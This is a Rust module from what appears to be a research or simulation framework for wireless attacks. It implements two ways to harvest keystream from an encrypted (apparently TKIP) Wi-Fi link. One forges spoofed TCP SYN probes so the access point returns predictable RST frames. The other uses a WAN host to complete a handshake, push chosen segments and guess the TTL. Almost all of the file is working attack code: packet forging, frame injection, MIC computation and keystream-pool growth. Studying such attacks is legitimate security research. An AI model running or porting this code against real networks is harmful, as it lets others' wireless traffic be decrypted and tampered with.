//! Growing the keystream pool with TCP probes.
//!
//! Local: a SYN spoofed from the AP's address makes the client answer the
//! AP, which (being Linux) resets the connection with a 60-byte frame whose
//! plaintext is predictable. That frame's keystream carries one more SYN,
//! so the pool grows with every accepted probe, on every free QoS channel.
//!
//! Remote: a SYN spoofed from the attacker's WAN host lets that host finish
//! a handshake and then push segments of its own choosing to the client.
//! Only the TTL they arrive with is unknown; a short guess window settles it.

use std::collections::HashMap;
use std::net::Ipv4Addr;

use super::{full_plaintext, AttackError, Session};
use crate::addr::Direction;
use crate::frames::packet::{
    ipv4_packet, llc_snap, llc_tcp, parse_ipv4, parse_tcp, tcp_flags, Ipv4Header, TcpHeader, ETHERTYPE_IPV4,
    IP_FLAG_DF, LLC_SNAP_LEN, PROTO_TCP, TCP_HEADER_LEN,
};
use crate::frames::{ICV_LEN, MIC_LEN, QOS_CHANNELS};
use crate::keystream::{harvest, HarvestContext, KeystreamEntry, Provenance, Template, TCP_RST_FRAME_LEN};
use crate::michael::MicHeader;
use crate::simnet::{AirFrame, Attacker, Micros, Observation, MS, SECOND};

#[derive(Debug, Clone)]
pub struct LocalScanConfig {
    /// An open TCP port on the client.
    pub port: u16,
    /// Stop once this many RST entries are confirmed.
    pub target_entries: usize,
    pub max_rounds: usize,
    pub reply_timeout: Micros,
    /// Fresh multi-fragment attempts for the first probe.
    pub seed_attempts: usize,
}

impl Default for LocalScanConfig {
    fn default() -> Self {
        Self {
            port: 22,
            target_entries: 64,
            max_rounds: 4,
            reply_timeout: 20 * MS,
            seed_attempts: 3,
        }
    }
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct LocalScanReport {
    /// TSCs of confirmed RST entries.
    pub confirmed: Vec<u64>,
    /// New RST entries harvested per round; the seed probe is round 0.
    pub per_round: Vec<usize>,
    pub rejected: usize,
    pub probes: usize,
}

#[derive(Debug, Clone)]
pub struct RemoteScanConfig {
    /// An open TCP port on the client.
    pub port: u16,
    /// Payload bytes per pushed segment.
    pub pad_len: usize,
    /// Segments to push.
    pub count: usize,
    /// TTL guesses, counting down from 64.
    pub ttl_window: u8,
    pub reply_timeout: Micros,
}

impl Default for RemoteScanConfig {
    fn default() -> Self {
        Self {
            port: 22,
            pad_len: 256,
            count: 32,
            ttl_window: 6,
            reply_timeout: 2 * SECOND,
        }
    }
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RemoteScanReport {
    pub ttl: u8,
    /// TSCs of the harvested entries, ascending.
    pub entries: Vec<u64>,
    pub entry_len: usize,
    /// Bytes sent by the WAN host for the pushed segments (IP packets).
    pub wan_bytes: usize,
    /// From the first pushed segment to the last harvested frame.
    pub started: Micros,
    pub finished: Micros,
}

fn syn(src: Ipv4Addr, dst: Ipv4Addr, sport: u16, dport: u16, isn: u32) -> Vec<u8> {
    let ip = Ipv4Header::new(src, dst, PROTO_TCP, TCP_HEADER_LEN);
    llc_tcp(&ip, &TcpHeader::new(sport, dport, isn, 0, tcp_flags::SYN), &[])
}

fn is_rst_frame(o: &Observation) -> bool {
    matches!(o, Observation::Air { frame, .. }
        if frame.direction == Direction::ApToClient && frame.mpdus.len() == 1 && frame.len() == TCP_RST_FRAME_LEN)
}

fn air_frame(o: Observation) -> Option<AirFrame> {
    match o {
        Observation::Air { frame, .. } => Some(frame),
        _ => None,
    }
}

type Probe = (Vec<u64>, Option<(u64, Vec<Vec<u8>>)>);

impl Session {
    /// Send one SYN from the AP's address and harvest the RST it provokes.
    /// Returns the entries spent and, on a reply, the new entry's TSC with
    /// its candidates in the order tried.
    fn rst_probe(
        &mut self,
        a: &mut Attacker<'_>,
        using: Option<(u64, u8)>,
        cfg: &LocalScanConfig,
        df_first: bool,
    ) -> Result<Probe, AttackError> {
        let (client_ip, ap_ip) = self.ips()?;
        let key = self.key()?;
        let (sport, isn) = self.probe_ids();
        let body = syn(ap_ip, client_ip, sport, cfg.port, isn);
        let (frame, used) = match using {
            Some((tsc, channel)) => (self.forge_with(&[tsc], channel, &body)?, vec![tsc]),
            None => self.forge(None, &body)?,
        };
        self.inject(a, frame);
        let Some(rst) = self.await_obs(a, cfg.reply_timeout, is_rst_frame).and_then(air_frame) else {
            return Ok((used, None));
        };
        let ctx = HarvestContext {
            src_ip: Some(ap_ip),
            dst_ip: Some(client_ip),
            src_port: sport,
            dst_port: cfg.port,
            seq: isn.wrapping_add(1),
            mic: Some((key, self.header(rst.mpdus[0].qos_channel)?)),
            ..HarvestContext::default()
        };
        let mut cands = harvest(&rst.mpdus[0], Template::TcpRstLinux, &ctx)?;
        if !df_first {
            cands.reverse();
        }
        let tsc = rst.mpdus[0].tsc;
        let bytes = cands.iter().map(|c| c.bytes.clone()).collect();
        self.pool.insert(cands);
        Ok((used, Some((tsc, bytes))))
    }

    /// Local TCP keystream growth. Needs the MIC key and both IP addresses.
    pub fn tcp_scan_local(&mut self, a: &mut Attacker<'_>, cfg: &LocalScanConfig) -> Result<LocalScanReport, AttackError> {
        self.ips()?;
        self.key()?;
        let mut report = LocalScanReport::default();
        let mut df_first = true;
        let mut cands: HashMap<u64, Vec<Vec<u8>>> = HashMap::new();

        // Seed: one RST from a SYN spread over short harvested entries.
        let mut frontier = Vec::new();
        for _ in 0..cfg.seed_attempts.max(1) {
            let (used, got) = self.rst_probe(a, None, cfg, df_first)?;
            report.probes += 1;
            if let Some((tsc, c)) = got {
                self.confirm_all(&used);
                cands.insert(tsc, c);
                frontier.push(tsc);
                break;
            }
            // Some guess in the plan was wrong; spend fresh entries next time.
            self.discard_unconfirmed(&used);
        }
        if frontier.is_empty() {
            return Err(AttackError::NoRstObserved);
        }
        report.per_round.push(1);
        a.note("tcp-scan-local", format!("seed rst tsc={}", frontier[0]), None);

        let mut full = false;
        for _ in 0..cfg.max_rounds {
            let mut next = Vec::new();
            'frontier: for &tsc in &frontier {
                for channel in 1..QOS_CHANNELS as u8 {
                    if report.confirmed.len() >= cfg.target_entries {
                        full = true;
                        break 'frontier;
                    }
                    if !self.pool.usable_channels(tsc).contains(&channel) {
                        continue;
                    }
                    let (_, got) = self.rst_probe(a, Some((tsc, channel)), cfg, df_first)?;
                    report.probes += 1;
                    let entry_confirmed = self.pool.get(tsc).is_some_and(|e| e.confirmed);
                    match got {
                        Some((new, c)) => {
                            if !entry_confirmed {
                                // Learn which IP flags this AP uses.
                                let active = &self.pool.get(tsc).expect("entry in pool").bytes;
                                if cands.get(&tsc).and_then(|v| v.iter().position(|b| b == active)) == Some(1) {
                                    df_first = !df_first;
                                }
                                self.pool.confirm(tsc);
                                report.confirmed.push(tsc);
                            }
                            cands.insert(new, c);
                            next.push(new);
                        }
                        None if entry_confirmed => {}
                        None => {
                            report.rejected += 1;
                            if !self.pool.reject(tsc) {
                                break;
                            }
                        }
                    }
                }
            }
            report.per_round.push(next.len());
            a.note(
                "tcp-scan-local",
                format!("round harvested={} confirmed={}", next.len(), report.confirmed.len()),
                None,
            );
            if full || next.is_empty() {
                break;
            }
            frontier = next;
        }
        // The last round's entries are confirmed by the RSTs they drew, not
        // by use; leave them unconfirmed.
        if report.confirmed.is_empty() {
            return Err(AttackError::GuessesRejected {
                rejected: report.rejected,
            });
        }
        report.confirmed.sort_unstable();
        Ok(report)
    }

    /// Remote TCP keystream harvesting through the attacker's WAN host.
    pub fn tcp_scan_remote(&mut self, a: &mut Attacker<'_>, cfg: &RemoteScanConfig) -> Result<RemoteScanReport, AttackError> {
        let wan = a.wan_address().ok_or(AttackError::NoWanRoute)?;
        let (client_ip, _) = self.ips()?;
        let key = self.key()?;

        // Handshake, with the SYN injected on the client's side.
        let (sport, isn) = self.probe_ids();
        let (frame, used) = self.forge(None, &syn(wan, client_ip, sport, cfg.port, isn))?;
        self.inject(a, frame);
        let Some(server_isn) = self.await_syn_ack(a, cfg.reply_timeout, client_ip, sport) else {
            self.discard_unconfirmed(&used);
            return Err(AttackError::NoHandshake);
        };
        self.confirm_all(&used);
        a.note("tcp-scan-remote", format!("handshake sport={sport}"), None);

        // Push segments whose every byte the attacker chose.
        self.sync(a);
        let started = a.now();
        let mut sent = Vec::with_capacity(cfg.count);
        let mut wan_bytes = 0;
        for i in 0..cfg.count {
            let payload: Vec<u8> = (0..cfg.pad_len).map(|j| (i * 31 + j) as u8).collect();
            let seq = isn.wrapping_add(1).wrapping_add((i * cfg.pad_len) as u32);
            let tcp = TcpHeader {
                window: 65535,
                ..TcpHeader::new(sport, cfg.port, seq, server_isn.wrapping_add(1), tcp_flags::ACK | tcp_flags::PSH)
            };
            let ip = Ipv4Header {
                id: i as u16,
                flags_frag: IP_FLAG_DF,
                ..Ipv4Header::new(wan, client_ip, PROTO_TCP, TCP_HEADER_LEN + cfg.pad_len)
            };
            let packet = ipv4_packet(&ip, &tcp.segment(wan, client_ip, &payload));
            wan_bytes += packet.len();
            a.wan_send(packet.clone()).map_err(|_| AttackError::NoWanRoute)?;
            sent.push(packet);
        }

        // Collect the frames they turn into, in order.
        let frame_len = LLC_SNAP_LEN + sent.first().map_or(0, Vec::len) + MIC_LEN + ICV_LEN;
        let mut frames = Vec::with_capacity(cfg.count);
        let deadline = a.now() + cfg.reply_timeout + cfg.count as Micros * 10 * MS;
        while frames.len() < cfg.count && a.now() < deadline {
            a.wait_for(deadline - a.now(), |o| {
                matches!(o, Observation::Air { frame, .. }
                    if frame.direction == Direction::ApToClient && frame.len() == frame_len)
            });
            let obs = a.poll();
            for o in &obs {
                if let Observation::Air { frame, .. } = o {
                    if frame.direction == Direction::ApToClient && frame.mpdus.len() == 1 && frame.len() == frame_len {
                        frames.push(frame.mpdus[0].clone());
                    }
                }
            }
            self.absorb(obs);
        }
        let finished = a.now();
        if frames.is_empty() {
            return Err(AttackError::TtlGuessExhausted);
        }

        let link = self.link()?;
        let plain_for = |packet: &[u8], ttl: u8, channel: u8| -> Result<Vec<u8>, AttackError> {
            let (mut h, payload) = parse_ipv4(packet).map_err(|_| AttackError::BadTarget("sent packet"))?;
            h.ttl = ttl;
            let mut body = llc_snap(ETHERTYPE_IPV4).to_vec();
            body.extend_from_slice(&ipv4_packet(&h, payload));
            Ok(full_plaintext(&key, &MicHeader::new(link.client, link.ap, channel)?, &body)?)
        };

        // Settle the TTL on the first frames, one guess per free channel.
        let mut ttls: Vec<u8> = (0..cfg.ttl_window).map(|d| 64 - d).collect();
        let mut ttl = None;
        'frames: for (m, packet) in frames.iter().zip(&sent) {
            for channel in 1..QOS_CHANNELS as u8 {
                let Some(&guess) = ttls.first() else { break 'frames };
                let entry = KeystreamEntry::from_known(m, &plain_for(packet, guess, m.qos_channel)?, Provenance::WanHandshake);
                self.pool.remove(m.tsc);
                self.pool.insert(vec![entry]);
                if !self.pool.usable_channels(m.tsc).contains(&channel) {
                    continue;
                }
                let (probe_port, probe_isn) = self.probe_ids();
                let f = self.forge_with(&[m.tsc], channel, &syn(wan, client_ip, probe_port, cfg.port, probe_isn))?;
                self.inject(a, f);
                if self.await_syn_ack(a, cfg.reply_timeout, client_ip, probe_port).is_some() {
                    self.pool.confirm(m.tsc);
                    ttl = Some(guess);
                    break 'frames;
                }
                ttls.remove(0);
            }
        }
        let ttl = ttl.ok_or(AttackError::TtlGuessExhausted)?;
        a.note("tcp-scan-remote", format!("ttl={ttl}"), None);

        let mut entries = Vec::with_capacity(frames.len());
        for (m, packet) in frames.iter().zip(&sent) {
            if !self.pool.get(m.tsc).is_some_and(|e| e.confirmed) {
                self.pool.remove(m.tsc);
                let e = KeystreamEntry::from_known(m, &plain_for(packet, ttl, m.qos_channel)?, Provenance::WanHandshake);
                self.pool.insert(vec![e]);
            }
            entries.push(m.tsc);
        }
        entries.sort_unstable();
        a.note("tcp-scan-remote", format!("harvested={} len={frame_len}", entries.len()), None);
        Ok(RemoteScanReport {
            ttl,
            entries,
            entry_len: frame_len,
            wan_bytes,
            started,
            finished,
        })
    }

    /// Wait for the client's SYN/ACK to `dport` at the WAN host; returns its ISN.
    fn await_syn_ack(&mut self, a: &mut Attacker<'_>, timeout: Micros, client_ip: Ipv4Addr, dport: u16) -> Option<u32> {
        let matches = |p: &[u8]| -> Option<u32> {
            let (h, seg) = parse_ipv4(p).ok()?;
            let (t, _) = parse_tcp(seg).ok()?;
            (h.src == client_ip && t.dst_port == dport && t.flags & (tcp_flags::SYN | tcp_flags::ACK) == tcp_flags::SYN | tcp_flags::ACK)
                .then_some(t.seq)
        };
        match self.await_obs(a, timeout, |o| matches!(o, Observation::Wan { packet, .. } if matches(packet).is_some())) {
            Some(Observation::Wan { packet, .. }) => matches(&packet),
            _ => None,
        }
    }
}
